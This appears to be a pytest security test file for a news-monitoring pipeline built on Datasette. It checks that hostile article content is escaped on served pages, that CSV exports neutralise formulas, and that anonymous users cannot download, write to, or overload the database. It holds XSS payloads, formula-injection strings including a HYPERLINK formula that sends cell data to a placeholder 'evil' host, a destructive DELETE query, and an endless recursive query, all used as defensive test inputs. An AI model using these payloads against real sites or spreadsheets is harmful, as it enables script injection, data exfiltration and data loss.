"""What a hostile page can do to readers: script in Datasette pages, formulas in CSV exports;
and what anonymous Datasette users can do: download the database, write, run queries forever."""

from __future__ import annotations

import csv
import time
from pathlib import Path

import pytest

from pipelines.export import FORMULA_PREFIXES, safe_cell
from pipelines.extract import extract_story
from pipelines.processing import process_stories
from pipelines.schema import open_db
from pipelines.sources import Source
from pipelines.store import ensure_sources
from pressmonitor.serve import SAFE_SETTINGS, datasette_args, make_datasette
from tests.conftest import run_cli
from tests.hostile import query, record_fault

SCRIPT = "<script>alert('pm')</script>"
ESCAPED = SCRIPT.replace("<", "&lt;").replace(">", "&gt;")  # text that looks like markup
IMG = "<img src=x onerror=alert('pm')>"
HOSTILE_PAGE = f"""<html><head><meta charset="utf-8"><title>{SCRIPT} Police arrest editor</title>
<meta name="author" content="{IMG.replace('"', "&quot;")}">
<meta property="article:published_time" content="2024-03-01"></head><body>
<article><h1>{ESCAPED} Police arrest editor</h1>
<p onclick="alert('pm')">National security police arrested the chief editor of the Harbour
Daily newspaper on Tuesday morning and searched the newsroom, seizing journalistic materials
and computers, <a href="javascript:alert('pm')">the union said</a>, in a statement.</p>
<p>The editor was detained on suspicion of conspiracy to publish seditious publications and
was later charged; the union condemned the arrest as an attack on press freedom in the city.</p>
</article></body></html>"""

FORMULAS = ['=HYPERLINK("http://evil/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Stories extracted from hostile pages and stored through the crawl's own code path."""
    path = tmp_path_factory.mktemp("readers") / "pressmonitor.db"
    db = open_db(path)
    ensure_sources(db, [Source("hostile", "feed", "https://news.example/rss.xml", "en")])
    stories = [extract_story(HOSTILE_PAGE, "https://news.example/a/1.html", "hostile", "en")]
    for i, formula in enumerate(FORMULAS):
        page = HOSTILE_PAGE.replace(f"{ESCAPED} Police arrest editor", f"{formula} editor {i}")
        page = page.replace("Harbour\nDaily", f"Harbour Daily {i}")
        stories.append(extract_story(page, f"https://news.example/f/{i}.html", "hostile", "en"))
    process_stories(db, stories)
    db.close()
    return path


def test_text_is_stored_as_text_without_markup(hostile_db):
    ((title, byline, text),) = query(
        hostile_db, "select title, byline, text from stories where url like '%/a/1.html'"
    )
    assert SCRIPT in title  # the page's text, verbatim: data, never markup
    assert "<a " not in text and "onclick" not in text and "javascript:" not in text
    assert "arrested the chief editor" in text
    assert byline == IMG


async def test_datasette_escapes_hostile_cells_on_table_and_row_pages(hostile_db):
    ds = make_datasette(hostile_db)
    ((story_id,),) = query(hostile_db, "select id from stories where url like '%/a/1.html'")
    pages = [
        "/pressmonitor/stories",
        f"/pressmonitor/stories/{story_id}",
        "/pressmonitor/stories?_search=editor",
    ]
    incidents = query(hostile_db, "select name from sqlite_master where name = 'incidents'")
    if incidents:
        pages.append("/pressmonitor/incidents")
        pages += [
            f"/pressmonitor/incidents/{i}" for (i,) in query(hostile_db, "select id from incidents")
        ]
    leaked = []
    for page in pages:
        response = await ds.client.get(page)
        assert response.status_code == 200, (page, response.status_code)
        html = response.text
        for raw in (SCRIPT, IMG, 'href="javascript:', 'onclick="alert'):
            if raw in html:
                leaked.append((page, raw))
    row = (await ds.client.get(f"/pressmonitor/stories/{story_id}")).text
    record_fault("script in title/byline/text", f"{len(pages)} Datasette pages", not leaked, 0, 0)
    assert not leaked
    assert "&lt;script&gt;alert(" in row


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_command_neutralises_formulas(tmp_path, formula):
    """The incident's title (from its first story) is the hostile headline."""
    db_path = tmp_path / "pressmonitor.db"
    db = open_db(db_path)
    ensure_sources(db, [Source("hostile", "feed", "https://news.example/rss.xml", "en")])
    html = HOSTILE_PAGE.replace(
        f"{ESCAPED} Police arrest editor", f"{formula} Police arrest editor"
    )
    process_stories(db, [extract_story(html, "https://news.example/f/1.html", "hostile", "en")])
    db.close()
    out = tmp_path / "incidents.csv"
    result = run_cli("export", "--db", str(db_path), "--out", str(out))
    assert result.returncode == 0, result.stderr[-2000:]
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    record_fault(f"CSV formula: {formula[:6]!r}", "headline -> export", not dangerous, 0, 0)
    assert len(rows) > 1, "the hostile stories made no incident: nothing was exported"
    assert not dangerous
    neutralised = {c[1] for c in cells if c[:1] == "'" and c[1:2] in "=+-@\t\r"}
    ((title,),) = query(db_path, "select title from incidents_export")
    if title.startswith(FORMULA_PREFIXES):  # tab / CR are stripped at extraction already
        assert neutralised, "the hostile headline was exported as is"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_safe_cell_neutralises_every_formula_prefix(prefix):
    assert safe_cell(f"{prefix}cmd") == f"'{prefix}cmd"
    assert safe_cell(f"text {prefix} inside") == f"text {prefix} inside"
    assert safe_cell(-3) == -3 and safe_cell(None) is None


async def test_anonymous_users_cannot_download_or_write(hostile_db):
    ds = make_datasette(hostile_db)
    download = await ds.client.get("/pressmonitor.db")
    assert download.status_code in (403, 404)
    assert not download.content.startswith(b"SQLite format 3")
    write = await ds.client.get(
        "/pressmonitor.json", params={"sql": "delete from stories", "_shape": "array"}
    )
    assert write.status_code >= 400
    posted = await ds.client.post("/pressmonitor/stories/-/insert", json={"row": {"id": "x"}})
    assert posted.status_code >= 400
    assert query(hostile_db, "select count(*) from stories")[0][0] == len(FORMULAS) + 1
    record_fault("anonymous download / write", "GET .db, DELETE via ?sql=, POST insert", True, 0, 0)


async def test_runaway_query_is_cut_off_at_the_time_limit(hostile_db):
    ds = make_datasette(hostile_db)
    sql = "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c"
    start = time.monotonic()
    response = await ds.client.get("/pressmonitor.json", params={"sql": sql})
    elapsed = time.monotonic() - start
    limit = SAFE_SETTINGS["sql_time_limit_ms"] / 1000
    record_fault("runaway recursive CTE", "endless recursive query", elapsed < limit + 2, 0, 0)
    assert response.status_code >= 400
    assert "interrupted" in response.text.lower() or "too long" in response.text.lower()
    assert elapsed < limit + 2


def test_datasette_binds_to_localhost_by_default():
    args = datasette_args("x.db")
    assert args[args.index("--host") + 1] == "127.0.0.1"
    settings = dict(zip(args[1::2], args[2::2], strict=False))
    assert settings  # parsed pairs
    assert "allow_download" in args and args[args.index("allow_download") + 1] == "off"
    from pressmonitor.cli import serve

    host = next(p for p in serve.params if p.name == "host")
    assert host.default == "127.0.0.1"
